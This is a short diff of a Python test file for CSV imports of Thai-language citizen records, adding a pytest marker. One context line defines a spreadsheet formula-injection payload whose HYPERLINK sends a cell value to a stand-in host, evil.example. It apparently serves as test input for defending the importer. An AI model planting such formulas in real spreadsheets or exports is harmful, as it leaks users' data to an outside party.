@@ -28,6 +28,8 @@ from tests.factories import csrf_from, make_account, sign_in, sign_in_citizen
 from tests.integration.test_import import TODAY, be, nid
 from tests.integration.test_import_jobs import HTMX, inline, job_id_in, upload
 
+pytestmark = pytest.mark.demo_data  # on the demo's reference data, loaded once
+
 THAI_HEADINGS = "เลขประจำตัวประชาชน,ประเภทความดี,จำนวน,วันที่,จังหวัด,หลักฐาน,รหัสอ้างอิง\n"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
